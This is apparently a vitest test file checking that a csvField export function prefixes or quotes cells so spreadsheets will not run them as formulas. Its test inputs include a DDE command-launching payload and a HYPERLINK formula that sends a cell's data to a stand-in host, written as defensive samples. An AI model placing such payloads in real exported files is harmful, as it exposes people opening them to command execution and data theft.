// csvField: no cell of an exported CSV file is one a spreadsheet would run as a formula.
import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { csvField } from './model.ts';

/** Reads one field back as a spreadsheet would see its text: unquoted, doubled quotes made one. */
function readField(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

describe('csvField: no cell a spreadsheet would run', () => {
  it('neutralises formulas from an imported name or address', () => {
    expect(csvField('=cmd|\' /C calc\'!A0')).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('=HYPERLINK("http://x.example/?d="&A1;"Klicka")')).toBe('"\'=HYPERLINK(""http://x.example/?d=""&A1;""Klicka"")"');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('+46 70 174 06 05')).toBe("'+46 70 174 06 05");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('leaves names, addresses and amounts as they are', () => {
    for (const v of ['Anna Andersson', 'Björkvägen 7, lgh 1001', '8000,00', '-12,50', '2026-12-30', "O'Brien", '']) expect(csvField(v)).toBe(v);
  });

  it('property: no field begins a formula, and the text read back is the text, behind at most an apostrophe', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', '"', "'", 'a', 'Å', '1', ',', ' ') }), (v) => {
        const read = readField(csvField(v));
        const plainAmount = /^-\d+(,\d+)?$/.test(v);
        if (!plainAmount) expect(read).not.toMatch(/^[=+\-@\t\r]/);
        expect(read === v || read === `'${v}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});
